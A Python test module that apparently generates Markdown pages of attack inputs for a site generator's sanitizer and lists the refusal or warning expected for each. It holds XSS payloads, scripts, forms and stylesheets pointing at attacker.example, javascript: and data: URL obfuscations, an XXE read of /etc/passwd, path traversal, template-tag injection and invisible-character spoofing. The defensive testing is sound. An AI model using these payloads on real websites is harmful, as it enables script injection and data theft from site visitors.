"""Attacks in the text of a page: HTML, addresses, tags of templates, ids, characters."""

from attacks import Attack

HEAD = "---\ntitle: Attack\n---\n\n"


def page(name: str, body: str | bytes, refused: str | None = None, warned: str | None = None) -> Attack:
    """A page of its own with this text below its head."""
    text = HEAD.encode() + (body if isinstance(body, bytes) else body.encode()) + b"\n"
    return Attack(name, {f"content/en/attacks/{name}.md": text}, refused, warned)


# HTML that a browser would act on. All of it is left out, wherever it stands.
HTML = {
    "script": "<script>attacked()</script>",
    "script-src": "<script src=//attacker.example/x.js></script>",
    "script-upper": "<SCRIPT>attacked()</SCRIPT >",
    "script-slash": "<script/x>attacked()</script>",
    "script-unclosed": "<script>attacked()",
    "script-split": "<scr<script>ipt>attacked()</scr</script>ipt>",
    "script-module": '<script type="module">attacked()</script>',
    "img": "<img src=x onerror=attacked()>",
    "img-slash": "<img/src=x/onerror=attacked()>",
    "img-quote": "<img src='x' onerror='attacked()' x='",
    "svg": "<svg onload=attacked()><animate onbegin=attacked() attributeName=x></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg onload=attacked()>"/></svg>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="attacked()"></style></mglyph></table></mtext></math>',
    "iframe": "<iframe src=javascript:attacked()></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='&lt;script>parent.attacked()&lt;/script>'></iframe>",
    "object": "<object data=javascript:attacked()></object>",
    "embed": "<embed src=//attacker.example/x.swf>",
    "form": "<form action=//attacker.example/><input name=card><button>Pay</button></form>",
    "formaction": "<button form=f formaction=javascript:attacked()>x</button>",
    "details": "<details open ontoggle=attacked()>x</details>",
    "autofocus": "<input autofocus onfocus=attacked()>",
    "video": "<video><source onerror=attacked()></video>",
    "marquee": "<marquee onstart=attacked()>x</marquee>",
    "base": "<base href=//attacker.example/>",
    "meta": '<meta http-equiv=refresh content="0;url=//attacker.example/">',
    "link": "<link rel=stylesheet href=//attacker.example/x.css>",
    "style": "<style>@import '//attacker.example/x.css'; * { background: url(//attacker.example/x) }</style>",
    "style-attribute": '<p style="background:url(//attacker.example/x)">x</p>',
    "anchor": '<a href="javascript:attacked()">x</a>',
    "anchor-ping": '<a href="https://a.example/" ping="//attacker.example/">x</a>',
    "template": "<template shadowrootmode=open><script>attacked()</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=attacked()>"></noscript>',
    "textarea": "<textarea></textarea><script>attacked()</script>",
    "title": "<title></title><script>attacked()</script>",
    "plaintext": "<plaintext>",
    "xmp": "<xmp></xmp><script>attacked()</script>",
    "comment": "<!-- --><script>attacked()</script> -->",
    "comment-short": "<!--><script>attacked()</script>-->",
    "comment-open": "<!--",
    "cdata": "<![CDATA[<script>attacked()</script>]]>",
    "instruction": "<?xml-stylesheet href='//attacker.example/x.xsl'?>",
    "declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "import-map": '<script type="importmap">{"imports": {"x": "//attacker.example/x.js"}}</script>',
    "speculation": '<script type="speculationrules">{"prefetch": [{"urls": ["//attacker.example/"]}]}</script>',
    "popover": "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=attacked()>x</div>",
    "clobber": "<form id=attacked name=document><input id=body name=location></form>",
    "closing": "</div></main></body></html>",
    "attribute-tab": "<img\tsrc=x\t\tonerror=attacked()>",
    "vector-tag": "<x onclick=attacked() contenteditable tabindex=1 onfocus=attacked() autofocus>x</x>",
}

# Where the HTML stands. `{}` is its place.
PLACES = {
    "alone": "{}",
    "in-text": "Some text {} and more.",
    "in-a-list": "- one\n\n  {}\n- two {}",
    "in-a-quote": "> {}\n>\n> text {}",
    "in-a-question": "## What is {} for? {#what}\n\nAnswer",
    "in-a-heading": "### A {} heading\n\nText",
    "in-a-table": "| a | b |\n|---|---|\n| {} | x |",
    "in-link-text": "[a {} b](https://a.example/)",
    "in-image-text": "![a {} b](https://images.example/a.png)",
    "in-emphasis": "**a {} b** *{}*",
    "behind-entities": "&lt;b&gt; {}",
}

# As text, code or entities, the same HTML is shown and means nothing.
SHOWN = {
    "code-span": "``` {} ```",
    "fence": "~~~~\n{}\n~~~~",
    "fence-info": "~~~~ {}\ncode\n~~~~",
    "fence-info-attribute": '~~~~ x" onmouseover="attacked()" y="{}\ncode\n~~~~',
    "indented": "    {}",
    "link-title": "[a](https://a.example/ '{}')",
    "image-title": "![a](https://images.example/a.png '{}')",
    "link-definition": "[a]\n\n[a]: https://a.example/ '{}'",
}


def html() -> list[Attack]:
    placed = [
        page(f"{place}-{name}", text.replace("{}", code))
        for place, text in PLACES.items()
        for name, code in HTML.items()
    ]
    shown = [
        page(f"{place}-{name}", text.replace("{}", code.replace("'", "\\'") if "title" in place or "definition" in place else code))
        for place, text in SHOWN.items()
        for name, code in HTML.items()
    ]
    encoded = [page(f"entities-{name}", "".join(f"&#{ord(sign)};" for sign in code)) for name, code in HTML.items()]
    escaped = [page(f"escaped-{name}", "".join("\\" + sign if not sign.isalnum() and sign.isprintable() and sign != " " else sign for sign in code)) for name, code in HTML.items()]
    return placed + shown + encoded + escaped


# Addresses that a browser, or a program behind it, would act on.
FORBIDDEN_ADDRESSES = {
    "javascript": "javascript:attacked()",
    "upper": "JAVASCRIPT:attacked()",
    "mixed": "jAvAsCrIpT:attacked()",
    "entity-colon": "javascript&colon;attacked()",
    "decimal-colon": "javascript&#58;attacked()",
    "long-decimal-colon": "javascript&#0000058;attacked()",
    "hexadecimal-colon": "javascript&#x3A;attacked()",
    "entity-letter": "&#106;avascript:attacked()",
    "entity-letters": "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:attacked()",
    "entity-tab": "java&Tab;script:attacked()",
    "entity-newline": "java&NewLine;script:attacked()",
    "decimal-newline": "java&#10;script:attacked()",
    "decimal-return": "java&#13;script:attacked()",
    "entity-null": "java&#0;script:attacked()",
    "entity-space": "&#32;javascript:attacked()",
    "entity-nbsp": "&nbsp;javascript:attacked()",
    "entity-hyphen": "java&shy;script:attacked()",
    "entity-joiner": "&zwj;javascript:attacked()",
    "percent-letter": "%6Aavascript:attacked()",
    "percent-colon": "javascript%3Aattacked()",
    "percent-lower-colon": "javascript%3aattacked()",
    "percent-tab": "java%09script:attacked()",
    "percent-newline": "java%0Ascript:attacked()",
    "percent-twice": "%256Aavascript:attacked()",
    "backslash-colon": "javascript\\:attacked()",
    "comment": "javascript://www.example.com/%0Aattacked()",
    "no-break-space": "\u00a0javascript:attacked()",
    "byte-order-mark": "\ufeffjavascript:attacked()",
    "zero-width-space": "java\u200bscript:attacked()",
    "long-s": "java\u017fcript:attacked()",
    "full-width": "\uff4aavascript:attacked()",
    "vbscript": "vbscript:attacked()",
    "livescript": "livescript:attacked()",
    "data-html": "data:text/html,%3Cscript%3Eattacked()%3C/script%3E",
    "data-base64": "data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+",
    "data-svg": "data:image/svg+xml,%3Csvg%20onload=attacked()%3E",
    "data-image": "data:image/png;base64,iVBORw0KGgo=",
    "data-upper": "DATA:text/html,x",
    "blob": "blob:https://help.example.com/0",
    "filesystem": "filesystem:https://help.example.com/temporary/x",
    "file": "file:///etc/passwd",
    "view-source": "view-source:https://www.example.com/",
    "about": "about:blank",
    "chrome": "chrome://settings/",
    "intent": "intent://x#Intent;scheme=javascript;end",
    "ms-office": "ms-word:ofe|u|https://attacker.example/x.docm",
    "search-ms": "search-ms:query=x",
    "jar": "jar:https://attacker.example!/x.html",
    "feed": "feed:javascript:attacked()",
    "ftp": "ftp://attacker.example/",
    "websocket": "wss://attacker.example/",
    "sms": "sms:+390655501",
    "empty-scheme": ":attacked()",
    "windows-path": "C:/Windows/x",
}

# Addresses that look dangerous and aren't: the id is of the warning that they give.
HARMLESS_ADDRESSES = {
    "query": ("?javascript:attacked()", None),
    "other-host": ("//attacker.example/x", None),
    "https-without-slashes": ("https:attacker.example", None),
    "mail-script": ("mailto:a@b.example?subject=%3Cscript%3Eattacked()%3C/script%3E", None),
    "mail-quote": ('mailto:a@b.example?subject=&quot;><script>attacked()</script>', None),
    "telephone-quote": ('tel:+39&quot;onmouseover=attacked()', None),
    "quote": ('https://a.example/&quot;onmouseover=&quot;attacked()', None),
    "apostrophe": ("https://a.example/'onmouseover='attacked()", None),
    "angle": ("https://a.example/&lt;script&gt;attacked()&lt;/script&gt;", None),
    "script-host": ("https://a.example/#javascript:attacked()", None),
    "user": ("https://www.example.com@attacker.example/", "link.host"),
    "user-encoded": ("https://www.example.com%40attacker.example/", None),
    "look-alike": ("https://www.ex\u0430mple.com/", "link.host"),
    "look-alike-ascii": ("https://www.xn--exmple-cua.com/", None),
    "hidden": ("https://www.example.com/\u202egnp.exe", "text.invisible"),
    "zero-width": ("https://www.example.com/\u200bx", "text.invisible"),
}

# Addresses that would be harmless, and lead nowhere.
DEAD_ADDRESSES = {
    "three-slashes": "///attacker.example/x",
    "four-slashes": "////attacker.example/x",
    "full-width-colon": "javascript\uff1aattacked()",
    "path-with-colon": "./javascript:attacked()",
    "percent-slash": "%2Fjavascript:attacked()",
    "backslash": "java\\\\script:attacked()",
    "above": "../../../../etc/passwd",
    "above-encoded": "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "data-file": "../../site.yaml",
    "template": "../../../templates/page.mustache",
}


def addresses() -> list[Attack]:
    rows = []
    for name, address in FORBIDDEN_ADDRESSES.items():
        rows.append(page(f"link-{name}", f"[a](<{address}>)", "url.scheme"))
        rows.append(page(f"image-{name}", f"![a](<{address}>)", "url.scheme"))
        rows.append(page(f"definition-{name}", f"[a][b] x\n\n[b]: <{address}>", "url.scheme"))
        rows.append(page(f"question-{name}", f"## What is [a](<{address}>)? {{#q}}\n\nA", "url.scheme"))
        cell = address.replace("|", "\\|")
        rows.append(page(f"table-{name}", f"| a |\n|---|\n| [a](<{cell}>) |", "url.scheme"))
    rows += [page(f"link-{name}", f"[a](<{address}>)", None, warning) for name, (address, warning) in HARMLESS_ADDRESSES.items()]
    rows += [page(f"link-{name}", f"[a](<{address}>)", "link.unresolved") for name, address in DEAD_ADDRESSES.items()]
    rows += [
        page("autolink-javascript", "<javascript:attacked()>", "url.scheme"),
        page("autolink-data", "<data:text/html,x>", "url.scheme"),
        page("autolink-with-space", "< javascript:attacked()>"),
        page("link-with-line-break", "[a](java\nscript:attacked())"),
        page("link-in-image-text", "![[a](javascript:attacked())](https://images.example/a.png)", "url.scheme"),
        page("image-in-link", "[![a](javascript:attacked())](https://a.example/)", "url.scheme"),
        page("fact-before-address", "[a](x{{refund-window}}:attacked())", "url.scheme"),
        page("fact-in-address", "[a]({{shop}}\"onmouseover=\"attacked())"),
        page("contact-disguised", "[a](contact:javascript:attacked())", "contact.unknown"),
        page("contact-encoded", "[a](%63ontact:sales)", "contact.unknown"),
        page("image-of-a-host", "![a](//images.example/a.png)"),
        page("image-of-a-host-backslash", "![a](\\\\\\\\images.example/a.png)"),
        page("image-above", "![a](../../../../etc/passwd)", "image.missing"),
        page("image-of-the-site", "![a](../../assets/../site.yaml)", "image.missing"),
        page("page-above", "[a](../../../../etc/passwd.md)", "link.unresolved"),
        page("page-encoded", "[a](%2e%2e/%2e%2e/../site.yaml.md)", "link.unresolved"),
        page("asset-above", "[a](../../assets/../../../etc/passwd)", "link.unresolved"),
        page("page-with-fragment", "[a](../start.md#%22%3E%3Cscript%3E)", "link.fragment"),
    ]
    return rows


TAGS = [
    page("tag-raw", "{{{title}}}", "fact.syntax"),
    page("tag-ampersand", "{{&title}}", "fact.syntax"),
    page("tag-partial", "{{>head}}", "fact.syntax"),
    page("tag-parent", "{{<layout}}{{/layout}}", "fact.syntax"),
    page("tag-section", "{{#site}}x{{/site}}", "fact.syntax"),
    page("tag-comment", "{{! x }}", "fact.syntax"),
    page("tag-delimiters", "{{=<% %>=}} <%title%>", "fact.syntax"),
    page("tag-name", "{{title}}", "fact.unknown"),
    page("tag-path", "{{site.extra}}", "fact.unknown"),
    page("tag-open", "{{", "fact.syntax"),
    page("tag-in-link", "[a](https://a.example/{{title}})", "fact.unknown"),
    page("tag-in-link-title", "[a](https://a.example/ '{{>head}}')", "fact.syntax"),
    page("tag-in-heading", "## {{>head}} {#q}\n\nA", "fact.syntax"),
    page("tag-in-code", "`{{>head}}` and ``{{{title}}}``"),
    page("tag-in-fence", "~~~ {{>head}}\n{{#site}}{{{title}}}{{/site}}\n~~~"),
    page("tag-escaped", "&#123;&#123;title}}", "fact.unknown"),
    page("tag-split", "{\\{title}}", "fact.unknown"),
    page("tag-split-by-a-space-without-width", "{&#8203;{title}}"),
    page("tag-section-inline", "x {{payments:all}}", "section.inline"),
    page("tag-section-value", "{{payments:../all}}", "fact.syntax"),
    page("tag-section-unknown", "{{payments:none}}", "payment.unknown-group"),
    page("tag-section-traversal", "{{../page}}", "fact.syntax"),
]

IDS = [
    page("id-digit", "## Q {#1a}\n\nA"),
    page("id-space", "## Q {#a b}", "markdown.heading-id"),
    page("id-quote", '## Q {#a"onclick="attacked()}', "markdown.heading-id"),
    page("id-tag", "## Q {#a><b>}", "markdown.heading-id"),
    page("id-entity", "## Q {#&quot;}", "markdown.heading-id"),
    page("id-unicode", "## Q {#é}\n\nA\n\n## R {#v1.2}\n\n[a](#e%CC%81)"),
    page("id-hidden", "## Q {#a\ufe0f}", "markdown.heading-id"),
    page("id-twice-in-two-forms", "## Q {#é}\n\nA\n\n## R {#e\u0301}\n\nB", "markdown.duplicate-id"),
    page("id-empty", "## Q {#}", "markdown.heading-id"),
    page("id-underscore", "## Q {#_main}", "markdown.heading-id"),
    page("id-class", "## Q {#a .b onclick=attacked()}", "markdown.heading-id"),
    page("id-twice", "## Q {#a}\n\nA\n\n## R {#a}\n\nB", "markdown.duplicate-id"),
    page("id-prototype", "## Q {#constructor}\n\nA\n\n## R {#toString}\n\nB\n\n## S {#hasOwnProperty}\n\nC"),
    page("id-clobber", "".join(f"## Q {{#{name}}}\n\nA\n\n" for name in ["attacked", "document", "location", "body", "cookie", "getElementById", "localStorage", "top", "self", "search", "theme", "data"])),
    page("id-of-a-section", "## Q {#contact}\n\nA\n\n## R {#payments-all}\n\nB"),
    page("id-from-heading", "## __proto__\n\nA\n\n## \"><script>attacked()</script>\n\nB\n\n## _main\n\nC"),
    page("id-from-signs", "## ???\n\nA\n\n## 日本 \"q\"\n\nC"),
    page("id-from-nothing", "## \u202e\n\nB", "markdown.empty-heading"),
]

CHARACTERS = [
    page("overlong-slash", b"a \xc0\xaf b", "file.encoding"),
    page("overlong-angle", b"\xc0\xbcscript\xc0\xbe", "file.encoding"),
    page("overlong-three", b"\xe0\x80\xbcscript>", "file.encoding"),
    page("surrogate", b"a \xed\xa0\x80 b", "file.encoding"),
    page("surrogate-pair", b"\xed\xa0\xbd\xed\xb8\x80", "file.encoding"),
    page("beyond-unicode", b"\xf4\x90\x80\x80", "file.encoding"),
    page("stray-byte", b"a \xff b", "file.encoding"),
    page("cut-short", b"a \xe2\x82", "file.encoding"),
    page("null", b"a \x00 b", "file.control-character"),
    page("escape", b"a \x1b[2J\x1b]0;x\x07 b", "file.control-character"),
    page("delete", b"a \x7f b", "file.control-character"),
    page("control-of-latin-1", "a \x9b31m b", "file.control-character"),
    page("entity-null", "a &#0; b"),
    page("entity-escape", "a &#27;[2J b", "text.control"),
    page("entity-surrogate", "a &#xD800; b"),
    page("bidi-in-heading", "## Pay \u202eEUR 001\u202c now {#q}\n\nA", warned="text.invisible"),
    page("bidi-in-link", "[pay\u202ereverse](https://a.example/)", warned="text.invisible"),
    page("isolate-unclosed", "## \u2066 Q {#q}\n\nA", warned="text.invisible"),
    page("zero-width-in-heading", "## Re\u200bfund {#q}\n\nA", warned="text.invisible"),
    page("tag-characters", "## Refund\U000e0061\U000e0062 {#q}\n\nA", warned="text.invisible"),
    page("separators", "## a\u2028b\u2029c {#q}\n\nA \u2028 \u2029 &#x2028;"),
    page("not-a-character", "a \ufffe \uffff b", "file.control-character"),
    page("composed", "## é {#a}\n\nA\n\n## e\u0301 {#b}\n\nB"),
    page("marks", "## " + "Z\u0335\u0321\u0322\u0327\u0328" * 200 + " {#q}\n\nA"),
    page("long-word", "## " + "x" * 5000 + " {#q}\n\n" + "y" * 5000),
]

CODE = [
    page("info-quote", '```js" onmouseover="attacked()" x="\ncode\n```'),
    page("info-tag", "```<script>attacked()</script>\ncode\n```"),
    page("info-entity", "```&quot;&gt;&lt;script&gt;attacked()\ncode\n```"),
    page("info-long", "``` " + "a" * 3000 + "\ncode\n```"),
    page("table-in-attack", "| `<script>` \\| | \" onclick=attacked() |\n|:-:|--:|\n| </td><script>attacked()</script> | x |", warned="markdown.raw-html"),
    page("title-break", '[a](https://a.example/ "x\\" onmouseover=\\"attacked()")'),
    page("title-entity", "[a](https://a.example/ 'x&quot; onmouseover=&quot;attacked()')"),
    page("alt-break", '![x" onerror="attacked()](https://images.example/a.png)'),
    page("alt-entity", "![x&quot; onerror=&quot;attacked()](https://images.example/a.png)"),
    page("json-break", "## </script><script>attacked()</script> {#q}\n\nA", warned="markdown.raw-html"),
    page("json-code", "## `</script><script>attacked()</script>` {#q}\n\nA `</script><!--<script>`"),
    page("json-entities", "## &lt;/script&gt;&lt;script&gt;attacked() {#q}\n\nA \\u003c/script\\u003e"),
    page("json-comment", "## &lt;!-- {#q}\n\n`<!--<script>`\n\n## ]]&gt; {#r}\n\nB"),
]

PAGES = html() + addresses() + TAGS + IDS + CHARACTERS + CODE
